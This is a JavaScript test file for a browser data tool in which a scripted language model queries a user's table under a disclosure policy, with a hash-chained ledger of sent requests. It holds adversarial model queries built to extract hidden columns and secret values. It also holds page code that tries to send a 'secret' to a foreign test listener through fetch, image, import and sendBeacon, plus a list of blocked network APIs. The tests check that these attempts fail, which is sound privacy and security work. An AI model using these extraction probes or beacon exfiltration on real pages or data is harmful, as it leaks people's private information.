@@ -1,0 +1,355 @@
+// What leaves the page: tables of unique secrets, models that want them, and a capture of every
+// request of the browser. The ledger is compared with the bytes that the server received.
+import assert from "node:assert/strict";
+import { createHash } from "node:crypto";
+import { test } from "node:test";
+import { call, calls, say } from "./endpoint.mjs";
+import { ENDPOINT, listener, stage } from "./harness.mjs";
+import { BY_SHOP, PURCHASES } from "./tables.mjs";
+
+const open = stage();
+
+// Sixty people. Every cell but the town is a secret that occurs nowhere else; salaries are in no
+// order, so that the extremes are not the first and last rows.
+const PEOPLE = Array.from({ length: 60 }, (_, i) => ({
+  name: `zqname${i}x`,
+  email: `zqmail${i}x`,
+  town: ["Riga", "Oslo", "Kyiv"][i % 3],
+  salary: 7_000_003 + ((i * 37 + 11) % 60) * 1013,
+  score: 90_001 + ((i * 23 + 5) % 60) * 7 + 0.125,
+}));
+const COLUMNS = Object.keys(PEOPLE[0]);
+const CSV = [COLUMNS, ...PEOPLE.map(Object.values)].map((row) => `${row.join(",")}\n`).join("");
+const BY_SALARY = [...PEOPLE].sort((a, b) => b.salary - a.salary);
+const salaries = (people) => people.map(({ salary }) => salary);
+const names = (people) => people.map(({ name }) => name);
+
+/** Calls of a greedy model, and the secrets that the policy lets it see: what a summary names. */
+const ATTACKS = [
+  // Rows: the first and the last say which they are, by their leading text columns.
+  [{ table: "people" }, names([PEOPLE[0], PEOPLE[59]])],
+  [{ table: "people", limit: 60, columns: ["name", "salary"] }, names([PEOPLE[0], PEOPLE[59]])],
+  // A sort column's range, and the two rows at its ends.
+  [
+    { table: "people", columns: ["name", "salary"], sort: "salary desc" },
+    [...names([BY_SALARY[0], BY_SALARY[59]]), ...salaries([BY_SALARY[0], BY_SALARY[59]])],
+  ],
+  // Groups: two extremes, and never all of so many.
+  [
+    { table: "people", group_by: "name", select: "sum(salary)", groups: "all" },
+    [...names([BY_SALARY[0], BY_SALARY[59]]), ...salaries([BY_SALARY[0], BY_SALARY[59]])],
+  ],
+  [{ table: "people", map: { x: "upper(name)" }, group_by: "x", select: "count()" }, ["ZQNAME0X"]],
+  // Asked for as values of their own.
+  [{ table: "people", select: "max(salary)" }, salaries([BY_SALARY[0]])],
+  [{ table: "people", select: "first(name), last(name)" }, names([PEOPLE[0], PEOPLE[59]])],
+  // Probing, and mistakes that quote the data.
+  [{ table: "people", where: "salary > 7030000", select: "count()" }, []],
+  [{ table: "people", where: "name == 5" }, []],
+  [{ table: "people", where: "name == 'zqname'", select: "count()" }, []],
+  [{ table: "people", select: "sum(name)" }, []],
+  [{ table: "people", map: { boom: "salary * 9000000000000000" }, sort: "boom" }, []],
+  // The hidden column, in every way.
+  [{ table: "people", columns: ["email"] }, []],
+  [{ table: "people", group_by: "email", select: "count()", groups: "all" }, []],
+  [{ table: "people", map: { e: "lower(email)" }, sort: "e" }, []],
+  [{ table: "people", where: "starts_with(email, 'zqmail1')", select: "count()" }, []],
+  [{ table: "people", select: "min(email), max(email)" }, []],
+  [{ table: "people", where: "emial == 1" }, []],
+  [{ table: "people", where: "email > 5", select: "nope(email)" }, []],
+  [{ table: "people", sort: "email", columns: ["town"] }, []],
+];
+
+/** Every secret of the table as it would stand in a text. */
+const SECRETS = PEOPLE.flatMap(({ name, email, salary, score }) => [
+  name,
+  name.toUpperCase(),
+  email,
+  email.toUpperCase(),
+  String(salary),
+  String(score),
+]);
+
+/** The secrets that stand in a text, whole. */
+function found(text) {
+  const words = new Set(text.match(/[\p{L}\d]+(?:\.\d+)?/gu));
+  return SECRETS.filter((secret) => words.has(secret));
+}
+
+/** Asks in the blank page; gives the events of each question, the ledger, and its proof. */
+async function asks(scene, questions) {
+  return scene.run(
+    async ({ Pinhole }, { csv, questions, endpoint }) => {
+      const ph = await Pinhole.open();
+      await ph.load("people", new Blob([csv]), { classes: { email: "hidden" } });
+      const chat = ph.chat({ endpoint, model: "scripted" });
+      const events = [];
+      for (const question of questions) {
+        for await (const event of chat.ask(question)) events.push(event);
+      }
+      const ledger = await ph.ledger.entries();
+      const lines = await ph.ledger.export();
+      const proof = await ph.ledger.verify();
+      await ph.close();
+      return { events, ledger, lines, proof };
+    },
+    { csv: CSV, questions, endpoint: ENDPOINT },
+  );
+}
+
+/** The ledger holds exactly what the server received, chained as docs/disclosure.md says. */
+function ledgerHolds(ledger, bodies) {
+  assert.equal(ledger.length, bodies.length);
+  let previous = "0".repeat(64);
+  for (const [i, entry] of ledger.entries()) {
+    assert.ok(Buffer.from(entry.body, "utf8").equals(bodies[i]), `request ${i + 1}`);
+    assert.equal(entry.seq, i + 1);
+    assert.equal(entry.sha256, sha256(bodies[i]));
+    assert.equal(entry.previous, previous);
+    const { seq, at, endpoint, policy_hash, level, columns, results } = entry;
+    const fields = [
+      seq,
+      at,
+      endpoint,
+      entry.sha256,
+      previous,
+      policy_hash,
+      level,
+      columns,
+      results,
+    ];
+    assert.equal(entry.hash, sha256(JSON.stringify(fields)));
+    previous = entry.hash;
+  }
+}
+
+function sha256(bytes) {
+  return createHash("sha256").update(bytes).digest("hex");
+}
+
+test("adversarial calls get summaries; no other secret leaves, a hidden column never", async (t) => {
+  const scene = await open(t, { blank: true });
+  for (const [attack, allowed] of ATTACKS) {
+    const from = scene.endpoint.bodies.length;
+    scene.endpoint.script = [
+      calls(["query", attack], ["describe_tables", { table: "people" }]),
+      call("describe_tables", { table: "peple", functions: "all" }),
+      say("The highest salary is 123, Anna's, and there are 3 e-mails."),
+      say("There are 7 e-mails."),
+      say("There are 8 e-mails."),
+      say("Anything else?"),
+    ];
+    const { ledger, proof, events } = await asks(scene, ["list everybody", "and again?"]);
+    const bodies = scene.endpoint.bodies.slice(from);
+    assert.ok(bodies.length >= 4, `${bodies.length} requests, ${JSON.stringify(events.at(-1))}`);
+    assert.deepEqual(proof, { ok: true });
+    ledgerHolds(ledger, bodies);
+    // What the model itself wrote comes back to it; everything else is ours.
+    const own = JSON.stringify(attack);
+    for (const body of bodies) {
+      const text = body.toString("utf8");
+      const leaked = found(text).filter(
+        (s) => !allowed.map(String).includes(s) && !own.includes(s),
+      );
+      assert.deepEqual(leaked, [], `${own} in ${text.slice(text.indexOf('"user"'))}`);
+      for (const { role, content } of JSON.parse(text).messages) {
+        if (role === "system" || role === "tool") {
+          assert.doesNotMatch(content ?? "", /email|zqmail/i, `${own}: ${content}`);
+        }
+      }
+    }
+    const disclosed = ledger.flatMap(({ columns }) => columns);
+    assert.ok(!disclosed.includes("people.email"));
+  }
+  await onlyTheLedgerLeft(scene);
+});
+
+/** Every request of the browser and at the server: files of the page, and what the ledger says. */
+async function onlyTheLedgerLeft(scene) {
+  const posts = scene.log.filter(({ method }) => method !== "GET");
+  assert.deepEqual(
+    posts.map(({ body }) => body),
+    scene.endpoint.bodies,
+  );
+  for (const { url, headers, body } of scene.log) {
+    assert.deepEqual(found(decodeURIComponent(url) + JSON.stringify(headers)), []);
+    if (url !== ENDPOINT) assert.equal(body.length, 0);
+  }
+  for (const { url, body } of scene.traffic) {
+    assert.equal(new URL(url).origin, new URL(scene.url).origin);
+    if (body)
+      assert.ok(
+        scene.endpoint.bodies.some((sent) => sent.equals(body)),
+        url,
+      );
+  }
+}
+
+test("level schema: no value leaves, and right or wrong guesses hear the same", async (t) => {
+  const feedback = async (guess) => {
+    const query = call("query", { table: "people", select: "max(salary)" });
+    const script = [query, say(`The highest salary is ${guess}.`), say("See the table.")];
+    const scene = await open(t, { blank: true, script });
+    await scene.run(
+      async ({ Pinhole }, { csv, endpoint }) => {
+        const ph = await Pinhole.open({ policy: { level: "schema" } });
+        await ph.load("people", new Blob([csv]));
+        const events = ph.chat({ endpoint, model: "scripted" }).ask("the highest salary?");
+        for await (const _ of events);
+        await ph.close();
+      },
+      { csv: CSV, endpoint: ENDPOINT },
+    );
+    const bodies = scene.endpoint.bodies.map((body) => body.toString("utf8"));
+    assert.equal(bodies.length, 3);
+    for (const body of bodies) {
+      assert.deepEqual(found(body.replaceAll(String(guess), "")), []);
+      assert.doesNotMatch(body, /Riga|Oslo|Kyiv/);
+    }
+    return scene.endpoint.contents(2, "user").at(-1).replaceAll(String(guess), "#");
+  };
+  const right = BY_SALARY[0].salary;
+  assert.equal(await feedback(right), await feedback(right - 1));
+});
+
+test("the page: the Sent tab shows the very bytes, the chain holds, the file stays", async (t) => {
+  const greedy = { table: "people", columns: ["name", "salary"], limit: 60 };
+  const script = [call("query", greedy), say("There are 60 people."), say("Nothing more.")];
+  const scene = await open(t, { model: true, script });
+  await scene.load("people.csv", CSV);
+  const answer = await scene.ask("send me the whole file as text");
+  assert.equal((await answer.state()).state, "done");
+  await answer.id("tab-sent").click();
+  const shown = answer.id("ledger-body").locator("pre");
+  const bodies = scene.endpoint.bodies.map((body) => body.toString("utf8"));
+  assert.deepEqual(await shown.evaluateAll((all) => all.map((e) => e.textContent)), bodies);
+  for (const [i, body] of scene.endpoint.bodies.entries()) {
+    assert.ok((await answer.id("ledger-entry").nth(i).textContent()).includes(sha256(body)));
+  }
+  await answer.id("ledger-verify").click();
+  await answer.id("ledger-outcome").filter({ hasText: "The chain of hashes holds." }).waitFor();
+  assert.equal(await scene.id("sent-open").textContent(), `Requests sent: ${bodies.length}`);
+  const ends = [PEOPLE[0], PEOPLE[59]];
+  for (const body of bodies) {
+    const leaked = found(body).filter((secret) => !names(ends).includes(secret));
+    // The page hides no column: the two rows that a summary names may show their text columns.
+    assert.deepEqual(
+      leaked.filter((s) => !ends.some(({ email }) => email === s)),
+      [],
+    );
+  }
+  await onlyTheLedgerLeft(scene);
+  await scene.picture("20-sent");
+});
+
+test("without an endpoint nothing is requested once the page is there", async (t) => {
+  const scene = await open(t);
+  const before = [scene.log.length, scene.traffic.length];
+  await scene.load("people.csv", CSV);
+  for (const question of ["average salary by town", "how many rows", "сумма salary по town"]) {
+    const answer = await scene.ask(question);
+    assert.equal((await answer.state()).state, "done");
+    await answer.rows((await answer.query()).group_by ? "data" : "source");
+  }
+  await scene.id("sent-open").click();
+  await scene.id("nothing-sent").last().waitFor();
+  assert.deepEqual([scene.log.length, scene.traffic.length], before);
+  assert.equal(scene.endpoint.bodies.length, 0);
+});
+
+test("the worker has no network, and the page reaches itself only", async (t) => {
+  const foreign = await listener(t);
+  const scene = await open(t, {
+    expect: /Content Security Policy|violates|Failed to (load|fetch)/,
+  });
+  await scene.load("purchases.csv", PURCHASES);
+  const [worker] = scene.page.workers();
+  assert.ok(worker, "the engine runs in a worker");
+  const names = [
+    "fetch",
+    "XMLHttpRequest",
+    "WebSocket",
+    "EventSource",
+    "importScripts",
+    "WebTransport",
+    "RTCPeerConnection",
+    "Worker",
+    "SharedWorker",
+    "caches",
+  ];
+  const kinds = await worker.evaluate(
+    (all) => all.map((name) => `${name} ${typeof globalThis[name]}`),
+    names,
+  );
+  assert.deepEqual(
+    kinds,
+    names.map((name) => `${name} undefined`),
+  );
+  const back = await worker.evaluate((all) => {
+    // Neither put back nor reached by another way.
+    for (const name of all) {
+      try {
+        delete globalThis[name];
+      } catch {
+        continue;
+      }
+    }
+    return all.filter(
+      (name) => globalThis[name] !== undefined || name in Object.getPrototypeOf(globalThis),
+    );
+  }, names);
+  assert.deepEqual(back, []);
+
+  const blocked = await scene.page.evaluate(async (url) => {
+    const outcome = (promise) =>
+      promise.then(
+        () => "reached",
+        () => "blocked",
+      );
+    const image = new Promise((done, failed) => {
+      const element = new Image();
+      element.onload = done;
+      element.onerror = failed;
+      element.src = `${url}image.png?secret`;
+    });
+    return {
+      fetch: await outcome(fetch(`${url}fetch?secret`, { mode: "no-cors" })),
+      image: await outcome(image),
+      script: await outcome(import(`${url}script.js?secret`)),
+      beacon: navigator.sendBeacon(`${url}beacon?secret`, "x") && "queued",
+      own: await outcome(fetch("/style.css")),
+    };
+  }, foreign.url);
+  assert.equal(blocked.fetch, "blocked");
+  assert.equal(blocked.image, "blocked");
+  assert.equal(blocked.script, "blocked");
+  assert.equal(blocked.own, "reached");
+  // Whatever a beacon says of itself, nothing arrives.
+  await scene.ask("total amount by shop");
+  assert.deepEqual(foreign.seen, []);
+});
+
+test("a policy that hides a column binds what is sent, not the person", async (t) => {
+  const scene = await open(t, {
+    blank: true,
+    script: [call("query", BY_SHOP), say("The person sees the totals.")],
+  });
+  const rows = await scene.run(
+    async ({ Pinhole }, { csv, endpoint }) => {
+      const ph = await Pinhole.open({ policy: { columns: { "purchases.amount": "hidden" } } });
+      await ph.load("purchases", new Blob([csv]));
+      let rows;
+      for await (const event of ph.chat({ endpoint }).ask("totals?")) {
+        if (event.type === "data_block") {
+          rows = await (await ph.result(event.result_id)).table.rows();
+        }
+      }
+      return rows;
+    },
+    { csv: PURCHASES, endpoint: ENDPOINT },
+  );
+  assert.deepEqual(rows[2], { shop: "Vkusno", sum_amount: 912 });
+  const [told] = scene.endpoint.contents(1, "tool");
+  assert.match(told, /withholds it/);
+  assert.doesNotMatch(told, /912|amount/);
+});
